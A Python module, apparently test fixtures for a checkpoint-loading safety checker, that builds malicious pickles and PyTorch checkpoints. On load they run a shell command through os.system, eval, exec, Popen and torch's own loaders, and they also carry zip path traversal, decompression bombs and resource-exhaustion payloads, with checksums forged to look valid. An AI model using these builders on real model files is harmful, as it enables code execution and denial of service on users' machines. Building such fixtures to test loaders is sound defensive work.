"""Pickles that run a command when they are loaded, and checkpoints, sound to all checksums, that hold one.

They are put together from the instructions of https://docs.python.org/3/library/pickletools.html: nothing
here is ever loaded or called. A loader without care takes most of the checkpoints without a word, for the
command stands before what a true checkpoint holds.
"""

import hashlib
import io
import pickle
import pickletools
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from functools import partial

Code = bytes  # of a pickle, which leaves one value
PROTO, STOP, _POP, _NONE = b"\x80\x02", b".", b"0", b"N"
_LEGACY = (0x1950A86A20F9469CFC6C, 1001)  # what torch's format before zip begins with: number, protocol


def plain(value: object) -> Code:
    """A text, a whole number, or bytes."""
    return pickletools.optimize(pickle.dumps(value, 3))[2:-1]


def named(module: str, name: str) -> Code:
    """Pickle what an import path names."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> Code:
    """Pickle an import path in protocol 4, whose names may have dots."""
    return plain(module) + plain(name) + b"\x93"


def several(*parts: Code) -> Code:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


def call(function: Code, *arguments: Code) -> Code:
    """Pickle what a function returns."""
    return function + several(*arguments) + b"R"


def mapping(items: Mapping[str, Code]) -> Code:
    """A dict."""
    return b"}(" + b"".join(plain(key) + value for key, value in items.items()) + b"u"


def calling(module: str, name: str, *arguments: str) -> bytes:
    """A whole pickle that calls something with texts."""
    return PROTO + call(named(module, name), *map(plain, arguments)) + STOP


def array_of_objects(command: str) -> bytes:
    """A file of numpy's that is a pickle."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + calling("os", "system", command)


@dataclass(frozen=True)
class Entries:
    """The files in a checkpoint's zip container, and how they are packed."""

    parts: tuple[tuple[str, bytes], ...]
    packing: int = zipfile.ZIP_STORED

    @classmethod
    def read(cls, checkpoint: bytes) -> "Entries":
        """Read the entries of a true checkpoint."""
        with zipfile.ZipFile(io.BytesIO(checkpoint)) as archive:
            return cls(tuple((name, archive.read(name)) for name in archive.namelist()))

    @property
    def pickle(self) -> bytes:
        """The part that torch unpickles."""
        return next(content for name, content in self.parts if name.endswith("/data.pkl"))

    def with_pickle(self, content: bytes) -> "Entries":
        """Return the entries with another pickle."""
        return replace(
            self, parts=tuple((n, content if n.endswith("/data.pkl") else c) for n, c in self.parts)
        )

    def with_parts(self, **parts: bytes) -> "Entries":
        """Return the entries with more files."""
        top = self.parts[0][0].partition("/")[0]
        more = tuple((name.replace("TOP", top), content) for name, content in parts.items())
        return replace(self, parts=(*self.parts, *more))

    def packed(self) -> bytes:
        """The container."""
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", self.packing) as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # that a name stands there twice
            for name, content in self.parts:
                archive.writestr(zipfile.ZipInfo(name), content, self.packing)
        return file.getvalue()


def sealed(content: bytes) -> bytes:
    """The bytes with the checksum that a checkpoint has, which anyone can compute."""
    digest = hashlib.sha256(content[:-2] + b"\0\0").hexdigest().encode()
    comment = b"sha256=" + digest
    return content[:-2] + struct.pack("<H", len(comment)) + comment


Make = Callable[[Entries, str], bytes]


def _before(code: Callable[[str], Code], true: Entries, command: str) -> bytes:
    """The call, its value thrown away, before a true checkpoint's content."""
    evil = code(command)
    begin = b"\x80\x04" if b"\x93" in evil else PROTO
    return true.with_pickle(begin + evil + _POP + true.pickle[2:]).packed()


def _instead(code: Callable[[str], Code], true: Entries, command: str) -> bytes:
    return true.with_pickle(PROTO + code(command) + STOP).packed()


def _legacy(first: bool, true: Entries, command: str) -> bytes:
    """Torch's old format: a number, a protocol, the machine, the content, its storages, each a pickle."""
    evil = calling("os", "system", command)
    numbers = [PROTO + plain(value) + STOP for value in _LEGACY]
    machine = PROTO + mapping({"little_endian": b"\x88"}) + STOP
    return b"".join([evil if first else numbers[0], numbers[1], machine, evil, PROTO + b"]" + STOP]) + b"\0\0"


def _tar(true: Entries, command: str) -> bytes:
    """Torch's oldest format, whose reader was forgotten when weights_only came."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = calling("os", "system", command)
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return file.getvalue()


def _script(true: Entries, command: str) -> bytes:
    """The entries that make torch take it for a compiled program."""
    code = b"def forward(self, x: Tensor) -> Tensor:\n  return x\n"
    more = {"TOP/constants.pkl": calling("os", "system", command), "TOP/code/__torch__.py": code}
    return true.with_parts(**more).packed()


def _more_files(true: Entries, command: str) -> bytes:
    """Files that lead out of the folder, code, and a second pickle of the first one's name."""
    evil = calling("os", "system", command)
    marker = command.rpartition(" ")[2]
    more = {f"../{'../' * 12}{marker}": b"", marker: b"", "TOP/../../executed": b"", "__main__.py": b"",
            "TOP/data.pkl": evil, "TOP/.data/serialization_id": evil}  # fmt: skip
    return true.with_parts(**more).packed()


def _huge(true: Entries, command: str) -> bytes:
    """A call, and a tensor of 2⁶⁰ numbers."""
    storage = several(plain("storage"), named("torch", "FloatStorage"), *map(plain, ("0", "cpu", 2**60)))
    sizes, strides = several(plain(2**30), plain(2**30)), several(plain(2**30), plain(1))
    hooks = call(named("collections", "OrderedDict"))
    tensor = call(named("torch._utils", "_rebuild_tensor_v2"), storage + b"Q", plain(0), sizes, strides,
                  b"\x89", hooks)  # fmt: skip
    content = mapping({"x": system(command), "format": plain(1), "model": mapping({"weight": tensor})})
    return true.with_pickle(PROTO + content + STOP).packed()


def _deep(true: Entries, command: str) -> bytes:
    """Lists in lists, more than any stack holds, and a call in the innermost."""
    depth = 200_000
    return true.with_pickle(PROTO + b"]" * depth + system(command) + b"a" * depth + STOP).packed()


def _bomb(true: Entries, command: str) -> bytes:
    """A hundred megabytes of nothing in a hundred kilobytes, and a call."""
    evil = PROTO + system(command) + _POP + true.pickle[2:]
    return replace(
        true.with_pickle(evil).with_parts(**{"TOP/data/99": bytes(10**8)}), packing=zipfile.ZIP_DEFLATED
    ).packed()


def system(command: str, module: str = "os") -> Code:
    return call(named(module, "system"), plain(command))


def _eval(module: str, name: str, command: str) -> Code:
    return call(named(module, name), plain(f"__import__('os').system({command!r})"))


def _popen(command: str) -> Code:
    words = b"](" + b"".join(map(plain, command.split())) + b"e"
    return call(named("subprocess", "Popen"), words)


def dotted(command: str) -> Code:
    return call(stacked("torch.serialization", "os.system"), plain(command))


def _by_attribute(command: str) -> Code:
    module = call(named("importlib", "import_module"), plain("os"))
    return call(call(named("builtins", "getattr"), module, plain("system")), plain(command))


def _inner(command: str) -> Code:
    """Torch's own function that loads bytes, whatever the outer call's arguments are."""
    return call(named("torch.storage", "_load_from_bytes"), plain(calling("os", "system", command) + b"\0\0"))


def _any_type(command: str) -> Code:
    """A tensor of a type of its own, made by a function of the file's choice."""
    rebuild = named("torch._tensor", "_rebuild_from_type_v2")
    return call(rebuild, named("os", "system"), named("torch", "Tensor"), several(plain(command)), _NONE)


def _as_state(command: str) -> Code:
    """A good object whose state takes the place of its methods."""
    state = mapping({"__setstate__": named("os", "system"), "__reduce__": named("os", "system")})
    return call(named("collections", "OrderedDict")) + state + b"b" + plain(command) + b"b"


# By name, the most different first.
CHECKPOINTS: Mapping[str, Make] = {
    "os.system before the content": partial(_before, system),
    "torch's format before zip": partial(_legacy, False),
    "bytes that torch loads itself": partial(_before, _inner),
    "files that lead out, and a second pickle": _more_files,
    "a compiled program": _script,
    "torch's oldest format, tar": _tar,
    "a tensor of any type": partial(_before, _any_type),
    "a name with dots": partial(_before, dotted),
    "builtins.eval": partial(_before, partial(_eval, "builtins", "eval")),
    "eval by its name in Python 2": partial(_before, partial(_eval, "__builtin__", "eval")),
    "builtins.exec": partial(_before, partial(_eval, "builtins", "exec")),
    "an object of subprocess.Popen": partial(_before, _popen),
    "getattr of an imported module": partial(_before, _by_attribute),
    "posix.system as the whole content": partial(_instead, partial(system, module="posix")),
    "a reference to somewhere else": partial(_before, lambda command: system(command) + b"Q"),
    "an instance": partial(_before, lambda command: b"(" + plain(command) + b"ios\nsystem\n"),
    "an object": partial(_before, lambda command: b"(cos\nsystem\n" + plain(command) + b"o"),
    "a state with methods": partial(_before, _as_state),
    "a tensor of 2⁶⁰ numbers": _huge,
    "200,000 lists in each other": _deep,
    "much in little": _bomb,
    "the first pickle of the old format": partial(_legacy, True),
    "a plain pickle": lambda true, command: calling("os", "system", command) + b"\0\0",
}
